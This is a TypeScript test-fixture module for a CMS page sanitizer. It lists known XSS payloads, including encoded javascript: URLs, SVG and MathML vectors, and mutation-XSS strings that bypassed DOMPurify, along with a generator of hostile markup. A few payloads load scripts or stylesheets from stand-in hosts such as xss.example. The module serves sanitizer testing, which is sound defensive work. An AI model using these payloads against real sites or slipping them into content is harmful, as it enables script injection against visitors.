/**
 * @module Known XSS payloads the CMS page sanitizer must defuse: classic vectors (OWASP's filter
 * evasion cheat sheet), URL scheme tricks with entities and control characters, raw-text elements
 * whose content becomes markup when unwrapped, SVG and MathML tricks, and the mutation-XSS
 * payloads that bypassed DOMPurify and other sanitizers (parser differentials between the
 * sanitizer and the browser). Each is checked by the test as a browser would parse the output.
 * Also the generator of hostile, misnested markup the property test and `npm run bench:sanitizer` use.
 */
import fc from 'fast-check';

interface XssPayload {
  /** What the payload tries. */
  name: string;
  html: string;
}

export const xssPayloads: readonly XssPayload[] = [
  // Scripts and event handlers.
  { name: 'script element', html: '<script>alert(1)</script>' },
  { name: 'external script in upper case', html: '<SCRIPT SRC=//xss.example/x.js></SCRIPT>' },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror with slashes as separators', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'img onerror evaluating its own src', html: '<img src=x:alert(1) onerror=eval(src)>' },
  { name: 'unterminated img with a handler', html: '<img src=x onerror="alert(1)"//' },
  { name: 'handler on an allowed element', html: '<p ONMOUSEOVER=alert(1)>text</p>' },
  { name: 'onclick on a link', html: '<a href="#" onclick="alert(1)">link</a>' },
  { name: 'svg onload', html: '<svg onload=alert(1)>' },
  { name: 'svg onload with a slash', html: '<svg/onload=alert(1)>' },
  { name: 'body onload', html: '<body onload=alert(1)>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'input autofocus onfocus', html: '<input onfocus=alert(1) autofocus>' },
  { name: 'custom element with a handler', html: '<x-a onclick=alert(1)>click</x-a>' },
  { name: 'focusin on a div with tabindex', html: '<div tabindex=1 onfocusin=alert(1)>x</div>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'video source onerror', html: '<video><source onerror=alert(1)></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  // Broken markup that rebuilds a script after naive stripping.
  { name: 'script split by a nested script', html: '<scr<script>ipt>alert(1)</script>' },
  { name: 'double open bracket', html: '<<script>alert(1)//<</script>' },
  { name: 'quotes in an attribute name', html: '<img """><script>alert(1)</script>">' },
  { name: 'img inside a comment that ends early', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'abrupt comment end', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'CDATA in HTML', html: '<![CDATA[<script>alert(1)</script>]]>' },
  // javascript:, data: and vbscript: URLs.
  { name: 'javascript link', html: '<a href="javascript:alert(1)">link</a>' },
  { name: 'mixed-case javascript link', html: '<a href="JaVaScRiPt:alert(1)">link</a>' },
  { name: 'javascript link with a leading space', html: '<a href=" javascript:alert(1)">link</a>' },
  { name: 'javascript link with a leading control character', html: '<a href="\u0001javascript:alert(1)">link</a>' },
  { name: 'javascript link with a tab inside', html: '<a href="java\tscript:alert(1)">link</a>' },
  { name: 'javascript link with an encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">link</a>' },
  { name: 'javascript link with a named tab entity', html: '<a href="&Tab;javascript:alert(1)">link</a>' },
  { name: 'javascript link with a named newline entity', html: '<a href="javas&NewLine;cript:alert(1)">link</a>' },
  { name: 'javascript link with a named colon entity', html: '<a href="javascript&colon;alert(1)">link</a>' },
  { name: 'javascript link in decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>' },
  { name: 'javascript link in hex entities without semicolons', html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">link</a>' },
  { name: 'javascript link in zero-padded entities', html: '<a href="&#0000106&#0000097vascript:alert(1)">link</a>' },
  { name: 'javascript img src', html: '<img src="javascript:alert(1)">' },
  { name: 'javascript img src in backticks', html: '<img src=`javascript:alert(1)`>' },
  { name: 'data: HTML link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>' },
  { name: 'data: SVG link', html: '<a href="data:image/svg+xml,<svg onload=alert(1)>">link</a>' },
  { name: 'data: SVG image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">link</a>' },
  { name: 'javascript srcset', html: '<img src="/a.jpg" srcset="javascript:alert(1) 1x">' },
  { name: 'javascript table background', html: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>' },
  // Embedding and forms.
  { name: 'iframe with a javascript src', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object data', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed with a data URL', html: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'form action', html: '<form action="javascript:alert(1)"><button>Küldés</button></form>' },
  { name: 'button formaction', html: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'isindex action', html: '<isindex action=javascript:alert(1) type=image>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', html: '<base href="javascript:alert(1)//">' },
  { name: 'stylesheet link', html: '<link rel=stylesheet href="javascript:alert(1)">' },
  // CSS.
  { name: 'style element with an import', html: "<style>@import 'http://xss.example/x.css';</style>" },
  { name: 'style attribute with a javascript URL', html: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style attribute with an expression', html: '<div style="width:expression(alert(1))">x</div>' },
  // Raw-text elements: their content is text to the parser, but markup once the element is gone.
  { name: 'textarea holding markup', html: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'title holding markup', html: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'xmp holding markup', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'noembed holding markup', html: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { name: 'noframes holding markup', html: '<noframes><img src=x onerror=alert(1)></noframes>' },
  { name: 'plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  { name: 'template content', html: '<template><img src=x onerror=alert(1)></template>' },
  // SVG and MathML.
  { name: 'script inside svg', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg link with xlink:href', html: '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>' },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>' },
  { name: 'svg set to a javascript href', html: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x=20 y=20>x</text></a></svg>' },
  { name: 'svg foreignObject with an iframe', html: '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>' },
  { name: 'svg style whose content is markup', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'math with a javascript href', html: '<math href="javascript:alert(1)">x</math>' },
  { name: 'math mi with xlink:href', html: '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>' },
  // Mutation XSS: markup that a sanitizer parses one way and the browser, after serialization, another.
  { name: 'noscript attribute breakout (mXSS)', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'svg p breaking out into a style (mXSS)', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'svg p style (mXSS)', html: '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>' },
  { name: 'math mtext table mglyph style (DOMPurify 2.0.0 bypass)', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  {
    name: 'math mglyph style comment (DOMPurify 2.0.17 bypass)',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  },
  { name: 'nested forms in math (DOMPurify 2.2.2 bypass)', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { name: 'style inside a div closed early', html: '<div><style><style/><img src=x onerror=alert(1)></div>' },
  { name: 'select template style comment (mXSS)', html: '<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=alert(1)>">' },
  { name: 'comment in an attribute of a raw-text element', html: '<iframe><p title="</iframe><img src=x onerror=alert(1)>">' },
];

/** Elements a sanitized CMS page may contain, as a browser parses it. */
export const allowedOutputElements = new Set([
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code', 'strong', 'b', 'em', 'i', 'u', 's', 'small', 'sub',
  'sup', 'mark', 'span', 'div', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'a', 'img', 'figure', 'figcaption', 'table', 'caption', 'thead',
  'tbody', 'tfoot', 'tr', 'th', 'td',
]);

/** The seed of the property test's 5,000 generated pages, and of the bench's comparison with the browser's tree. */
export const generatedMarkupSeed = 20261123;

const name = fc.constantFrom(
  'a', 'b', 'i', 'em', 'strong', 'code', 'p', 'div', 'span', 'h1', 'h2', 'h3', 'pre', 'blockquote', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'figure', 'figcaption',
  'table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'td', 'th', 'colgroup', 'col', 'img', 'hr', 'br', 'select', 'option', 'svg', 'math', 'mi', 'mglyph',
  'foreignObject', 'desc', 'annotation-xml', 'script', 'style', 'template', 'noscript', 'noembed', 'iframe', 'textarea', 'title', 'plaintext', 'xmp', 'form',
  'button', 'input', 'html', 'head', 'body', 'base', 'meta', 'font', 'object', 'marquee', 'listing', 'section', 'x-a', 'DIV', 'sVg', 'TABLE',
);
const attribute = fc
  .tuple(
    fc.constantFrom('src', 'href', 'HREF', 'title', 'alt', 'start', 'colspan', 'scope', 'onerror', 'style', 'xlink:href', 'rel', 'target', 'loading'),
    fc.constantFrom('', '=x', '="a b"', "='&amp;'", '=javascript:1', '="jav&#x09;ascript:1"', '="&colon;x"', '="/a?b=1&c=2"', '="https://x.example/&lt;"', '=&lt', '=/', '="',
      '="//evil.example"', '="/&sol;evil"', '="&quot;><img src=x onerror=1>"', "='\"'"))
  .map(([key, value]) => ` ${key}${value}`);
const tag = fc.tuple(name, fc.array(attribute, { maxLength: 3 }), fc.constantFrom('>', '/>', '', ' >')).map(([n, attrs, end]) => `<${n}${attrs.join('')}${end}`);
const endTag = name.map((n) => `</${n}>`);
const text = fc.constantFrom(
  'x', ' ', '\n', '\t', '\u0000', '\r\n', 'é', '🏠', '<', '>', '&', '&amp;', '&am', 'p;', '&lt', '&notit;', '&notin;', '&#0;', '&#x110000;', '&#x41;', '&#', ']]>', '<!--', '-->',
  '--!>', '<!-- c -->', '<!', '<?x?>', '<![CDATA[y]]>', '<!DOCTYPE html>', '</', '"', "'", '=',
);
/** Hostile, misnested markup: tags of every kind in every case, attributes with references and scripts, text with references, comments, CDATA, NULs, binary strings. */
export const generatedMarkup = fc.oneof(
  { weight: 8, arbitrary: fc.array(fc.oneof({ weight: 3, arbitrary: tag }, { weight: 2, arbitrary: endTag }, { weight: 3, arbitrary: text }), { maxLength: 30 }).map((p) => p.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
);
